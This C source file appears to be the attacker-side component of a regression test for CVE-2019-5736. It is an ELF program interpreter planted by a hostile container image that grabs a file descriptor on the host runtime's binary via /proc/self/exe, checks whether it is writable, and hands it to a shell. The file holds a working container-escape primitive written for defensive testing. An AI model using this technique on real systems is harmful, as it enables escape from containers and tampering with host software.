/* exe-interp.c - the attacker's half of the CVE-2019-5736 test in
 * test-protect.c: an ELF program interpreter that a hostile image puts at
 * the path of mdrun's own interpreter (PT_INTERP, /lib64/ld-linux-...).
 *
 * When the container's entrypoint is a symlink to /proc/self/exe, the
 * kernel executes whatever binary the process entering the container runs
 * from -- the runtime's -- and loads this program as its interpreter: the
 * image's code now runs in a process whose /proc/self/exe is the runtime.
 * It keeps an fd on that file as fd 3, reports on stdout whether the file
 * could be opened for writing there and then, and execs /bin/sh with its
 * own arguments (argv[0] becomes "sh"), whose script goes on with fd 3.
 *
 * Freestanding, without libc: the kernel starts an interpreter with the
 * main program's auxiliary vector, which a static libc would misread. */
#include <fcntl.h>
#include <linux/errno.h>

#include "nolibc.h"

static void say(const char *s)
{
    sys4(__NR_write, 1, (long)s, str_len(s), 0);
}

/* "-N" for a failed system call's result, "0" for success. */
static void say_result(const char *what, long r)
{
    char num[24];
    int i = (int)sizeof(num) - 1;
    unsigned long v = r < 0 ? (unsigned long)-r : 0;
    num[i--] = '\0';
    num[i--] = '\n';
    do {
        num[i--] = (char)('0' + v % 10);
        v /= 10;
    } while (v);
    if (r < 0)
        num[i--] = '-';
    say(what);
    say(num + i + 1);
}

void start_c(long *sp)
{
    long argc = sp[0];
    char **argv = (char **)(sp + 1);
    char **envp = argv + argc + 1;
    long fd = sys4(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_RDONLY, 0);
    say_result("interp: open /proc/self/exe ", fd < 0 ? fd : 0);
    if (fd >= 0 && fd != 3) {
        sys4(__NR_dup3, fd, 3, 0, 0);
        sys4(__NR_close, fd, 0, 0, 0);
    }
    long w = sys4(__NR_openat, AT_FDCWD, (long)"/proc/self/exe", O_WRONLY | O_APPEND, 0);
    say_result("interp: open /proc/self/exe for writing ", w < 0 ? w : 0);
    if (w >= 0)
        sys4(__NR_close, w, 0, 0, 0);
    argv[0] = "sh";
    sys4(__NR_execve, (long)"/bin/sh", (long)argv, (long)envp, 0);
    say("interp: exec /bin/sh failed\n");
    sys_exit(112);
}
